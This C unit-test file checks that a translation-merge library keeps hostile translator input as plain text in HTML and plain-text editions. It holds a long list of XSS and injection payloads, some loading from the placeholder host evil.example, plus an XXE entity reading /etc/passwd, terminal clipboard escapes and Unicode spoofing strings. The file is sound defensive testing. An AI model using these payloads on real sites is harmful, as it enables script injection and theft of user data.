/*
 * Hostile translations: whatever a translator writes, the edition has the markup
 * of the release, and what is not the words of a unit is not touched.
 *
 * Each attack is put into each place of a page and of a text. What proves that it
 * stayed text is independent of the merge's own check: the edition has the same
 * angle brackets and quotes as the release, and when it is read again it has the
 * same units with as many codes, and all but the attacked one say what they said.
 */
#include <config.h>

#include "base/alloc.h"
#include "document/document.h"

#include "tests/document/merge.h"

#define ATTACK(literal) { "" literal, sizeof(literal) - 1 }

static const struct slice attacks[] = {
	/* elements */
	ATTACK("<script>alert(1)</script>"),
	ATTACK("<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
	ATTACK("</script><script>alert(1)</script>"),
	ATTACK("<scr<script>ipt>alert(1)</scr</script>ipt>"),
	ATTACK("<img src=x onerror=alert(1)>"),
	ATTACK("<svg/onload=alert(1)>"),
	ATTACK("<svg><script>alert(1)</script></svg>"),
	ATTACK("<math><mtext></mtext><mglyph><style></math>"),
	ATTACK("<iframe src=\"javascript:alert(1)\"></iframe>"),
	ATTACK("<a href=\"javascript:alert(1)\">x</a>"),
	ATTACK("<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>"),
	ATTACK("<meta http-equiv=refresh content=\"0;url=//evil.example\">"),
	ATTACK("<base href=//evil.example/>"),
	ATTACK("<link rel=stylesheet href=//evil.example/x.css>"),
	ATTACK("<style>*{display:none}</style>"),
	ATTACK("<form action=//evil.example><input name=q>"),
	ATTACK("<object data=x><embed src=y>"),
	ATTACK("<template><p>x</p></template>"),
	ATTACK("<plaintext>"),
	ATTACK("<xmp>x</xmp>"),
	ATTACK("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
	ATTACK("<b>bold</b>"),
	ATTACK("<br>"),
	ATTACK("<br/>"),
	ATTACK("<"),
	ATTACK("a<b"),
	ATTACK("<x"),
	ATTACK("</"),
	ATTACK("<?php echo 1; ?>"),
	ATTACK("<!DOCTYPE html>"),
	ATTACK("<![CDATA[ x ]]>"),
	ATTACK("<!ENTITY x SYSTEM \"file:///etc/passwd\">"),

	/* leaving what is around */
	ATTACK("</p>"),
	ATTACK("</p><p onclick=alert(1)>"),
	ATTACK("</td></tr></table><h1>x</h1>"),
	ATTACK("</title><script>alert(1)</script>"),
	ATTACK("</textarea><script>alert(1)</script>"),
	ATTACK("</option></select><b>x"),
	ATTACK("</pre><b>x"),
	ATTACK("</button></html>"),
	ATTACK("</body></html>"),
	ATTACK("-->"),
	ATTACK("--!><script>alert(1)</script>"),
	ATTACK("<!-- x"),
	ATTACK("<!-->"),
	ATTACK("]]>"),
	ATTACK("?>"),

	/* leaving an attribute */
	ATTACK("\""),
	ATTACK("'"),
	ATTACK("`"),
	ATTACK("=x"),
	ATTACK("\" onclick=\"alert(1)"),
	ATTACK("' onclick='alert(1)"),
	ATTACK("` onclick=`alert(1)"),
	ATTACK("x onmouseover=alert(1)"),
	ATTACK("x\tonmouseover=alert(1)"),
	ATTACK("x\nonmouseover=alert(1)"),
	ATTACK("x\fonmouseover=alert(1)"),
	ATTACK("x/onmouseover=alert(1)"),
	ATTACK("x/>"),
	ATTACK("x><script>alert(1)</script>"),
	ATTACK("\"><script>alert(1)</script>"),
	ATTACK("'><script>alert(1)</script>"),
	ATTACK("\"'`><img src=x onerror=alert(1)>"),
	ATTACK("\\\" onclick=\\\"alert(1)"),
	ATTACK("javascript:alert(1)"),
	ATTACK("vbscript:x"),

	/* references */
	ATTACK("&"),
	ATTACK("&lt;script&gt;alert(1)&lt;/script&gt;"),
	ATTACK("&#60;script&#62;"),
	ATTACK("&#x3c;script&#x3e;"),
	ATTACK("&#34; onclick=&#34;x"),
	ATTACK("&quot onclick=&quot"),
	ATTACK("&amp;lt;b&amp;gt;"),
	ATTACK("&nbsp"),
	ATTACK("&#0;&#x110000;&#xd800;"),
	ATTACK("&xxe;"),
	ATTACK("&unknown"),

	/* codes that the source does not have */
	ATTACK("<z77/>"),
	ATTACK("<a99>x</a99>"),
	ATTACK("<a1 href=\"javascript:alert(1)\">x"),
	ATTACK("<a1\nonclick=x>"),
	ATTACK("<script1>x</script1>"),
	ATTACK("<b99999999999999999999/>"),

	/* characters */
	ATTACK("a\0b"),
	ATTACK("\0<script>"),
	ATTACK("<\0script>alert(1)</script>"),
	ATTACK("a\x01\x08\x0b\x0e\x1f\x7f" "b"),
	ATTACK("\x1b]52;c;ZXZpbA==\x07\x1b[2J"),
	ATTACK("a\nb"),
	ATTACK("a\r\nb\rc"),
	ATTACK("a\n\n\nb"),
	ATTACK("a\n\n- b\n\n# c"),
	ATTACK("a\xe2\x80\xa8" "b\xe2\x80\xa9" "c"),
	ATTACK("a\xc2\x85" "b"),
	ATTACK("a\xe2\x80\xae" "gpj.exe\xe2\x81\xa6"),
	ATTACK("\xef\xbb\xbfx"),
	ATTACK("a\xef\xbf\xbe\xef\xbf\xbf\xef\xb7\x90" "b"),
	ATTACK("a\xf4\x8f\xbc\xbc" "script\xf4\x8f\xbc\xbe"), /* would be the bytes '<' and '>' */
	ATTACK("\xc0\xbcscript\xc0\xbe"),			    /* '<' in two bytes */
	ATTACK("\xff\xfe<\xed\xa0\x80"),
	ATTACK("\xef\xbc\x9cscript\xef\xbc\x9e"),
	ATTACK("+ADw-script+AD4-"),
	ATTACK("- x"),
	ATTACK("1. x"),
};

/* Every kind of place that a unit of a page can stand in. */
static const char page[] =
	"<!DOCTYPE html><html lang=en><title>In title</title><meta name=description content='In meta'>\n"
	"<h1>In heading</h1><p>In text</p><p title=\"In double\" id=a>Next</p><p title='In single' id=b>Next</p>"
	"<p title=Bare id=c>Next</p><p id=d title=Last>Next</p><!-- note --><script>var a = \"<p>\";</script>\n"
	"<ul><li>In item<li>Open item</ul><table><tr><td>In cell<td>Second</table><pre>In\n pre</pre>\n"
	"<select><option>In option</select><textarea>In area</textarea><button>In button</button>\n"
	"<p>With <a href=\"/x\" title=\"In code\">a link</a>.</p><img src=x alt=Picture><svg><title>In "
	"svg</title></svg></html>\n";

static const char text[] =
	"A title\n\nThe first paragraph is so long that it\nstands in two lines of text here.\n\n"
	"* A bullet\n* Another bullet\n\n    An indented line\n\nThe\x1b[1m last\n";

/* How a text is cut must not hang on the look of the edition. */
static const struct document_options by_paragraphs = { .plain_units = PLAIN_PARAGRAPHS };

/* One unit has a translation. */
struct single {
	size_t index;
	struct slice target;
};

static struct slice translate_single(const void *context, size_t index, const struct document_unit *unit)
{
	const struct single *single = context;

	(void)unit;
	return index == single->index ? single->target : SLICE_NONE;
}

static size_t count_byte(struct slice bytes, char wanted)
{
	size_t count = 0;

	for (size_t i = 0; i < bytes.bytes; i++)
		count += bytes.data[i] == wanted;
	return count;
}

/* The attack, the codes of the source in their order, and words so that all of it stays a unit. */
static void make_target(struct strbuf *target, struct slice attack, struct slice source)
{
	struct arena arena = ARENA_INIT;
	struct segment codes = segment_read(source, &arena);

	for (size_t i = 0; i < codes.code_count; i++)
		codes.codes[i].offset = 0;
	strbuf_add(target, attack);
	strbuf_add_string(target, " word ");
	codes.text = SLICE("");
	segment_print(&codes, target);
	strbuf_add_string(target, " word");
	arena_release(&arena);
}

static void check_page_bytes(struct slice edition, struct slice release, struct slice attack)
{
	for (const char *c = "<>"; *c; c++)
		if (count_byte(edition, *c) != count_byte(release, *c))
			fail_msg("'%.*s' became markup:\n%.*s", SLICE_ARG(attack), SLICE_ARG(edition));
	for (size_t i = 0; i < edition.bytes; i++)
		if ((unsigned char)edition.data[i] < 0x20 && !strchr("\n\t", edition.data[i]))
			fail_msg("'%.*s' left a control character", SLICE_ARG(attack));
}

static void check_text_bytes(struct slice edition, struct slice release, struct slice attack)
{
	if (count_byte(edition, '\x1b') != count_byte(release, '\x1b') || count_byte(edition, '\0') ||
	    count_byte(edition, '\r'))
		fail_msg("'%.*s' left a control character", SLICE_ARG(attack));
}

/* The attacked unit has the same codes; the others are what they were. */
static void check_units(const struct document *before, const struct document *after, size_t attacked,
			struct slice attack)
{
	if (document_unit_count(before) != document_unit_count(after))
		fail_msg("'%.*s' made %zu units of %zu", SLICE_ARG(attack), document_unit_count(after),
			 document_unit_count(before));
	for (size_t i = 0; i < document_unit_count(before); i++) {
		const struct document_unit *was = document_unit(before, i), *is = document_unit(after, i);

		if (i == attacked)
			assert_int_equal(was->code_count, is->code_count);
		else
			assert_slices_equal(is->source, was->source);
	}
}

static void attack_unit(const struct document *document, struct slice release, size_t index,
			struct slice attack, const char *path,
			void (*check_bytes)(struct slice, struct slice, struct slice))
{
	struct strbuf target = STRBUF_INIT, edition = STRBUF_INIT;
	struct single single = { index, SLICE_NONE };
	struct document_targets targets = { .find = translate_single, .context = &single };
	struct document_report report = DOCUMENT_REPORT_INIT;
	struct document *again;
	struct error err = ERROR_INIT;

	make_target(&target, attack, document_unit(document, index)->source);
	single.target = strbuf_slice(&target);
	if (!document_merge(document, &targets, NULL, &edition, &report, &err))
		fail_msg("'%.*s' in unit %zu: %s", SLICE_ARG(attack), index, err.message);
	if (report.changed != 1 || report.problem_count)
		fail_msg("'%.*s' was refused in unit %zu", SLICE_ARG(attack), index);
	check_bytes(strbuf_slice(&edition), release, attack);
	assert_true(document_same_skeleton(document, strbuf_slice(&edition), &err));
	again = open_or_fail(path, strbuf_slice(&edition), &by_paragraphs);
	check_units(document, again, index, attack);
	document_free(again);
	document_report_release(&report);
	strbuf_release(&edition);
	strbuf_release(&target);
}

static void attack_everywhere(const char *path, struct slice release,
			      void (*check_bytes)(struct slice, struct slice, struct slice))
{
	struct document *document = open_or_fail(path, release, &by_paragraphs);

	assert_true(document_unit_count(document) >= 5);
	for (size_t i = 0; i < ARRAY_COUNT(attacks); i++)
		for (size_t unit = 0; unit < document_unit_count(document); unit++)
			attack_unit(document, release, unit, attacks[i], path, check_bytes);
	document_free(document);
}

static void attacks_on_a_page_stay_text(void **state)
{
	(void)state;
	attack_everywhere("a.html", slice_of(page), check_page_bytes);
}

static void attacks_on_a_text_stay_in_their_paragraph(void **state)
{
	(void)state;
	attack_everywhere("a.txt", slice_of(text), check_text_bytes);
}

/* ---------------------------------------------------------------- broken codes */

struct broken {
	const char *target;
	enum document_problem_kind kind;
	const char *code;
};

static void check_broken(const struct document *document, struct slice release, const struct broken *broken)
{
	struct single single = { 1, slice_of(broken->target) };
	struct document_targets targets = { .find = translate_single, .context = &single };
	struct document_report report = DOCUMENT_REPORT_INIT;
	struct strbuf edition = STRBUF_INIT, sentence = STRBUF_INIT;
	struct error err = ERROR_INIT;

	assert_true(document_merge(document, &targets, &language_ru, &edition, &report, &err));
	assert_slices_equal(strbuf_slice(&edition), release);
	assert_int_equal(report.changed, 0);
	if (report.problem_count != 1)
		fail_msg("'%s' is not reported", broken->target);
	assert_int_equal(report.problems[0].unit, 1);
	assert_int_equal(report.problems[0].line, 3);
	if (report.problems[0].kind != broken->kind ||
	    !slice_equal(report.problems[0].code, slice_of(broken->code)))
		fail_msg("'%s' is reported as %d of '%.*s'", broken->target, report.problems[0].kind,
			 SLICE_ARG(report.problems[0].code));
	document_problem_describe(&report.problems[0], &sentence);
	assert_true(slice_find(strbuf_slice(&sentence), slice_of(broken->code), 0) != SIZE_MAX);
	document_report_release(&report);
	strbuf_release(&edition);
	strbuf_release(&sentence);
}

static void check_all_broken(const char *path, struct slice release, const struct broken *broken, size_t count)
{
	struct document *document = open_or_fail(path, release, NULL);

	for (size_t i = 0; i < count; i++)
		check_broken(document, release, &broken[i]);
	document_free(document);
}

static void broken_codes_of_a_page_are_reported(void **state)
{
	/* The source: Read <a1>this <b2>page</b2></a1> first<br3/>then. */
	static const struct broken broken[] = {
		{ "x", PROBLEM_CODE_LOST, "a1" },
		{ "<a1>x</a1>", PROBLEM_CODE_LOST, "b2" },
		{ "<a1>x <b2>y</b2></a1>", PROBLEM_CODE_LOST, "br3" },
		{ "<b2>y</b2><br3/>", PROBLEM_CODE_LOST, "a1" },
		{ "<a1 href=\"/x\">x <b2>y</b2></a1><br3/>", PROBLEM_CODE_LOST, "a1" },
		{ "<A1>x <b2>y</b2></A1><br3/>", PROBLEM_CODE_LOST, "a1" },
		{ "< a1>x <b2>y</b2></ a1><br3/>", PROBLEM_CODE_LOST, "a1" },
		{ "&lt;a1&gt;x <b2>y</b2>&lt;/a1&gt;<br3/>", PROBLEM_CODE_LOST, "a1" },
		{ "<a01>x <b2>y</b2></a01><br3/>", PROBLEM_CODE_LOST, "a1" },
		{ "<i1>x <b2>y</b2></i1><br3/>", PROBLEM_CODE_LOST, "a1" },
		{ "<a1>x <b2>y</b2><br3/>", PROBLEM_CODE_LOST, "a1" },
		{ "x <b2>y</b2></a1><br3/>", PROBLEM_CODE_LOST, "a1" },
		{ "<a1/>x <b2>y</b2><br3/>", PROBLEM_CODE_LOST, "a1" },
		{ "<a1>x <b2>y</b2></a1><br3>", PROBLEM_CODE_LOST, "br3" },
		{ "<a1>x <b2>y</b2></a1></br3>", PROBLEM_CODE_LOST, "br3" },
		{ "<a1>x</a1><a1>x <b2>y</b2></a1><br3/>", PROBLEM_CODE_ADDED, "a1" },
		{ "<a1>x <b2>y</b2></a1><br3/><br3/>", PROBLEM_CODE_ADDED, "br3" },
		{ "<a1><a1>x <b2>y</b2></a1></a1><br3/>", PROBLEM_CODE_ADDED, "a1" },
		{ "<a1>x <b2>y</a1></b2><br3/>", PROBLEM_CODE_CROSSED, "a1" },
		{ "</a1>x <b2>y</b2><a1><br3/>", PROBLEM_CODE_CROSSED, "a1" },
	};

	(void)state;
	check_all_broken("a.html",
			 SLICE("<html lang=en><h1>Title</h1>\n\n<p>Read <a href=\"/x\">this <b>page</b></a> "
			       "first<br>then.</p></html>"),
			 broken, ARRAY_COUNT(broken));
}

static void broken_codes_of_a_text_are_reported(void **state)
{
	/* The source: An <x1/>escape and <x2/>another */
	static const struct broken broken[] = {
		{ "none", PROBLEM_CODE_LOST, "x1" },
		{ "<x1/>one", PROBLEM_CODE_LOST, "x2" },
		{ "<x1> <x2/>", PROBLEM_CODE_LOST, "x1" },
		{ "<x1 /> <x2/>", PROBLEM_CODE_LOST, "x1" },
		{ "<x1/> <x2/> <x1/>", PROBLEM_CODE_ADDED, "x1" },
	};

	(void)state;
	check_all_broken("a.txt", SLICE("Title\n\nAn \x1b" "escape and \x07" "another\n"), broken, ARRAY_COUNT(broken));
}

/* ------------------------------------------------------------------ cut documents */

/* Wherever a page was cut, it is read, and comes back. */
static void a_page_cut_anywhere_comes_back(void **state)
{
	struct slice whole = slice_of(page);

	(void)state;
	for (size_t end = 0; end <= whole.bytes; end++) {
		char *copy = alloc_bytes(end); /* so that reading past the end is seen */
		struct slice cut = { copy, end };
		struct document *document;
		struct strbuf none, same;

		memcpy(copy, whole.data, end);
		document = open_or_fail("a.html", cut, NULL);
		none = merge_or_fail(document, translate_none, NULL, &language_ru);
		same = merge_or_fail(document, translate_same, NULL, &language_ru);
		assert_slices_equal(strbuf_slice(&none), cut);
		assert_slices_equal(strbuf_slice(&same), cut);
		strbuf_release(&none);
		strbuf_release(&same);
		document_free(document);
		free(copy);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(attacks_on_a_page_stay_text),
		cmocka_unit_test(attacks_on_a_text_stay_in_their_paragraph),
		cmocka_unit_test(broken_codes_of_a_page_are_reported),
		cmocka_unit_test(broken_codes_of_a_text_are_reported),
		cmocka_unit_test(a_page_cut_anywhere_comes_back),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
